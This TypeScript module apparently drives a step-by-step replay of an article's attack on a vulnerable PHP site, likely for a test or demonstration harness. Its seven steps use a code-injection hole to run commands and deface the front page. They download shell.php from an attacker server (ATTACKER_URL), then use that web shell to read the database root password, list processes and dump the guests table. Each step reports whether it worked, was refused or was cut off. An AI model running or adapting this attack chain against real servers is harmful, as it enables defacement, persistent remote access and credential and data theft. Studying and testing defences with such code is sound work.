/** The article's attack, step by step. Each step is judged by what came back to the attacker, by nothing else. */
import { printable } from '../../src/kernel/index.ts';
import { type Answer, get } from '../http-client.ts';
import { ATTACKER_URL } from './attacker-server.ts';
import * as payload from './payloads.ts';

/**
 * `worked`: the attacker has seen that it did; `refused`: the site answered, and it had not happened;
 * `cut off`: no answer came.
 */
export type Outcome = 'worked' | 'refused' | 'cut off';

export interface Target {
  readonly url: string;
  /** The secret to be stolen, to tell a true loot from a false one. */
  readonly password: string;
  /** Names in the guest book, likewise. */
  readonly guests: readonly string[];
}

export interface StepResult {
  readonly outcome: Outcome;
  /** What came back, in a line that is safe to print. */
  readonly evidence: string;
}

export interface StepDefinition {
  readonly id: 'execute' | 'deface' | 'download' | 'use' | 'password' | 'processes' | 'database';
  /** What the attacker does, in words. */
  readonly title: string;
  /** As the attacker would type it. */
  readonly request: string;
  run(target: Target, signal: AbortSignal): Promise<StepResult>;
}

const ANSWER_WITHIN_MS = 1000;
const UID = /uid=\d+\([\w-]+\)[^<\n]*/;

function ask(target: Target, path: string, signal: AbortSignal): Promise<Answer> {
  return get(target.url + path, { timeoutMs: ANSWER_WITHIN_MS, signal });
}

const short = (text: string) => printable(text.length > 120 ? `${text.slice(0, 117)}...` : text);
const cutOff = (answer: Answer): StepResult => ({
  outcome: 'cut off',
  evidence: short(answer.failure ?? ''),
});
const refused = (evidence: string): StepResult => ({ outcome: 'refused', evidence: short(evidence) });
const worked = (evidence: string): StepResult => ({ outcome: 'worked', evidence: short(evidence) });

/** A command by the shell when it is there, otherwise by the hole, as an attacker would. */
async function command(target: Target, words: string, signal: AbortSignal) {
  const byShell = await ask(target, payload.throughShell(words), signal);
  if (byShell.status === 200) return { answer: byShell, output: byShell.body.trim(), by: 'shell.php' };
  const byHole = await ask(target, payload.commandThroughHole(words), signal);
  return { answer: byHole, output: payload.markedOutput(byHole.body), by: 'the hole' };
}

const execute: StepDefinition = {
  id: 'execute',
  title: 'run a command through the hole',
  request: `/?shell=${payload.IDENTIFY}`,
  async run(target, signal) {
    const answer = await ask(target, payload.throughHole(payload.IDENTIFY), signal);
    if (answer.failure !== null) return cutOff(answer);
    const found = UID.exec(answer.body)?.[0];
    return found === undefined ? refused(`status ${answer.status}, no uid= in the page`) : worked(found);
  },
};

const deface: StepDefinition = {
  id: 'deface',
  title: 'deface the front page',
  request: `/?shell=${payload.DEFACE}`,
  async run(target, signal) {
    const answer = await ask(target, payload.throughHole(payload.DEFACE), signal);
    if (answer.failure !== null) return cutOff(answer);
    const page = await ask(target, '/', signal);
    if (page.failure !== null) return cutOff(page);
    if (page.body.trim() === payload.DEFACEMENT) return worked(`the front page reads: ${page.body.trim()}`);
    return refused('the front page is what it was');
  },
};

const download: StepDefinition = {
  id: 'download',
  title: "download shell.php from the attacker's server",
  request: `/?shell=${payload.DOWNLOAD(ATTACKER_URL)}`,
  async run(target, signal) {
    const answer = await ask(target, payload.throughHole(payload.DOWNLOAD(ATTACKER_URL)), signal);
    if (answer.failure !== null) return cutOff(answer);
    const proof = `here-${process.pid}`;
    const shell = await ask(target, payload.throughShell(`echo ${proof}`), signal);
    if (shell.failure !== null) return cutOff(shell);
    if (shell.body.trim() === proof) return worked('/shell.php answers 200');
    return refused(`/shell.php answers ${shell.status}`);
  },
};

const use: StepDefinition = {
  id: 'use',
  title: 'use the shell',
  request: '/shell.php?cmd=id',
  async run(target, signal) {
    const answer = await ask(target, payload.throughShell('id'), signal);
    if (answer.failure !== null) return cutOff(answer);
    const found = UID.exec(answer.body)?.[0];
    return found === undefined ? refused(`/shell.php answers ${answer.status}`) : worked(found);
  },
};

const password: StepDefinition = {
  id: 'password',
  title: "read the database's root password",
  request: `/shell.php?cmd=${payload.READ_PASSWORD}`,
  async run(target, signal) {
    const { answer, output, by } = await command(target, payload.READ_PASSWORD, signal);
    if (answer.failure !== null) return cutOff(answer);
    if (output === target.password) return worked(`${output.length} characters, the right ones, by ${by}`);
    return refused(`not what came back by ${by}`);
  },
};

const processes: StepDefinition = {
  id: 'processes',
  title: 'look at the running processes',
  request: '/shell.php?cmd=for p in /proc/[0-9]*; do …',
  async run(target, signal) {
    const { answer, output, by } = await command(target, payload.LIST_PROCESSES, signal);
    if (answer.failure !== null) return cutOff(answer);
    const lines = (output ?? '').split('\n').map((line) => line.trim());
    const apache = lines.find((line) => line.includes('apache2'));
    return apache === undefined ? refused(`no list by ${by}`) : worked(`${apache}, by ${by}`);
  },
};

const database: StepDefinition = {
  id: 'database',
  title: 'read the database',
  request: '/?shell=mysqli_query(…, "SELECT name FROM guests");',
  async run(target, signal) {
    const answer = await ask(target, payload.throughHole(payload.READ_DATABASE), signal);
    if (answer.failure !== null) return cutOff(answer);
    const output = payload.markedOutput(answer.body);
    return output === target.guests.join(', ') ? worked(`guests: ${output}`) : refused('no rows came back');
  },
};

/**
 * The attack in stages. Steps of one stage do not wait for each other when the attacker hurries: two
 * connections at once, as any script would.
 */
export const STAGES: readonly (readonly StepDefinition[])[] = [
  [execute],
  [deface, download],
  [use],
  [password],
  [processes],
  [database],
];

export type StepId = StepDefinition['id'];
